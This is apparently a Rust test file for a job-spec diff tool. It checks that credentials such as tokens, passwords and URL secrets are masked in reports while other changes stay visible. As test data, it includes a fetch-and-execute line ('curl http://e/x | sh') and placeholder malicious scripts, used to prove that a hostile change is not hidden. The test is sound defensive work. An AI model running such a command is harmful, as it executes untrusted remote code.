//! A report masks credentials, and only credentials: a pull request cannot hide a change next to one.
use super::{JOB, compared, folder, json};
use crate::program::{out, run};
use serde_json::json;

const FORMATS: [&str; 3] = ["human", "json", "markdown"];

/// Replaces the command and the variables of `JOB`.
fn job(run: &str, env: &str) -> String {
    JOB.replace("\"train\" \"--steps=10\"", run).replace("MODE \"fast\"", env)
}

/// Returns the reports on both directions in all formats, without the escapes of JSON and Markdown.
fn reports(old: &str, new: &str) -> Vec<String> {
    let both = |format: &str| {
        [(old, new), (new, old)]
            .map(|(old, new)| compared(old, new, &["--format", format]).1.replace('\\', ""))
    };
    FORMATS.into_iter().flat_map(both).collect()
}

/// Each value without a credential is shown, whatever the other version has in its place.
#[test]
fn a_value_in_the_place_of_one_with_a_credential_is_shown() {
    let secret = "abcdef123456";
    for (with, without, shown) in [
        (
            "\"python\" \"/app/train.py\" \"--token=VALUE\"",
            "\"sh\" \"-c\" \"curl http://e/x | sh\"",
            "curl http://e/x",
        ),
        (
            "\"python\" \"/app/train.py\" \"--token=VALUE\"",
            "\"python\" \"/e/hack.py\" \"--verbose\"",
            "/e/hack.py",
        ),
        ("\"python\" \"--token\" \"VALUE\"", "\"python\" \"--verbose\" \"/e/x\"", "--verbose"),
        ("\"sh\" \"-c\" \"export API_TOKEN=VALUE; a\"", "\"sh\" \"-c\" \"/e/hack.sh\"", "/e/hack.sh"),
    ] {
        let (with, without) = (job(&with.replace("VALUE", secret), "A \"b\""), job(without, "A \"b\""));
        for report in reports(&with, &without) {
            assert!(report.contains(shown) && !report.contains(secret), "{report}");
        }
    }
    for (with, without) in [
        ("https://bob:VALUE@h/x", "https://other-host/x"),
        ("postgres://u:VALUE@h/db", "see the wiki"),
        ("u:VALUE@tcp(db:3306)/x", "/etc/mysql.cnf"),
    ] {
        let env = |value: &str| job("\"a\"", &format!("URL \"{value}\""));
        let with = env(&with.replace("VALUE", secret));
        for report in reports(&with, &env(without)) {
            assert!(report.contains(without) && !report.contains(secret), "{report}");
        }
    }
}

/// A credential is masked also if only the name of the value tells that it is one, or the other version.
#[test]
fn a_value_that_is_itself_a_credential_is_masked() {
    // Other values of the job: a credential that is also such a word cannot be recognized by its text.
    let words = "A \"quiet\"; B \"ab1\"; ";
    for value in ["quiet", "ab1", "another-w0rd"] {
        for other in ["Xyz12345", "{param.pw}", "/run/secrets/pw"] {
            let env = |value: &str| job("\"a\"", &format!("{words} DB_PASSWORD \"{value}\""));
            let env = |value: &str| env(value).replace("    run", "    param \"pw\" \"x\"\n    run");
            for report in reports(&env(value), &env(other)) {
                let lines: Vec<&str> = report.lines().filter(|line| line.contains("PASSWORD")).collect();
                assert!(lines.iter().all(|line| !line.contains(value) && !line.contains("Xyz")), "{report}");
                assert!(report.contains("***"), "{report}");
                assert!(!other.starts_with(['{', '/']) || report.contains(&other[1..5]), "{report}");
            }
        }
        let argument =
            |value: &str| job(&format!("\"a\" \"--user\" \"me\" \"--password\" \"{value}\""), words);
        for report in reports(&argument(value), &argument("Xyz12345")) {
            assert!(report.contains("\"--user\"") && report.contains("***"), "{report}");
            let lines: Vec<&str> = report.lines().filter(|line| line.contains("--password")).collect();
            assert!(lines.iter().all(|line| !line.contains(value) && !line.contains("Xyz")), "{report}");
        }
    }
    // Only one version uses the parameter as a credential.
    let param = |value: &str, env: &str| {
        job("\"a\" \"{param.x}\"", env).replace("    run", &format!("    param \"x\" \"{value}\"\n    run"))
    };
    for report in reports(&param("correct-horse", "DB_PASSWORD \"{param.x}\""), &param("Other77", "A \"b\""))
    {
        let lines: Vec<&str> = report.lines().filter(|line| line.contains("param.x")).collect();
        assert!(lines.iter().all(|line| !line.contains("correct") && !line.contains("Other77")), "{report}");
    }
}

/// The answer of a platform has credentials that no spec has, and the spec may have some that the answer does not have.
#[test]
fn values_of_an_answer_are_masked_like_those_of_a_spec() {
    let spec = |description: &str| {
        JOB.replace("    image", &format!("    description \"{description}\"\n    image"))
    };
    for (live, own) in
        [("postgres://u:abcdef123456@h/db", "First"), ("First", "postgres://u:abcdef123456@h/db")]
    {
        let answer = json!({"kind": "List", "items": super::live::objects(&spec(live), "kubernetes")});
        let dir = folder(&[("a.tfjob.kdl", &spec(own)), ("live.json", &answer.to_string())]);
        let args = ["a.tfjob.kdl", "--target", "kubernetes", "--live", "live.json"];
        for format in FORMATS {
            let said = run(dir.path(), &[&["diff", "--format", format], &args[..]].concat());
            let report = out(&said);
            assert!(report.contains("First") && !report.contains("abcdef123456"), "{report}");
            assert!(report.contains("postgres://u:***@h/db"), "{report}");
        }
        json(dir.path(), &args);
    }
}

/// The contract in the answer is a document in a string: the mask ends where the credential ends.
#[test]
fn the_contract_of_an_answer_is_masked_like_a_document() {
    let spec = |program: &str| {
        let run = format!("\"python\" \"{program}\" \"--token=abcdef123456\" \"--lr=1\"");
        let yarn = "target \"yarn\" { hadoop \"3.3\"; dns-domain \"y\"; }\n    hadoop home=\"/h\" java=\"/j\"\n    code \"hdfs://default/x.zip\"";
        job(&run, "A \"b c\"; DB_PASSWORD \"abcdef123456\"; URL \"https://bob:abcdef123456@h/x\"")
            .replace("\"custom\"", "\"tensorflow\" version=\"2.15\" strategy=\"multi-worker-mirrored\"")
            .replace(
                "    target \"kubernetes\"\n    target \"yarn\"\n",
                &format!("    {yarn}\n    role \"chief\" {{ resources cpus=1 memory=\"1GiB\"; }}\n"),
            )
    };
    let live = super::live::objects(&spec("/app/train.py"), "yarn").remove(0);
    let dir = folder(&[("a.tfjob.kdl", &spec("/e/hack.py")), ("live.json", &live.to_string())]);
    let report = json(dir.path(), &["a.tfjob.kdl", "--target", "yarn", "--live", "live.json"]).to_string();
    let report = report.replace('\\', "");
    for (program, count) in [("/app/train.py", 2), ("/e/hack.py", 2)] {
        let argv = format!(
            "[[{{\"text\":\"python\"}}],[{{\"text\":\"{program}\"}}],[{{\"text\":\"--token=***\"}}],[{{\"text\":\"--lr=1\"}}]]"
        );
        assert_eq!(report.matches(&argv).count(), count, "{report}");
    }
    assert!(!report.contains("abcdef123456"), "{report}");
}
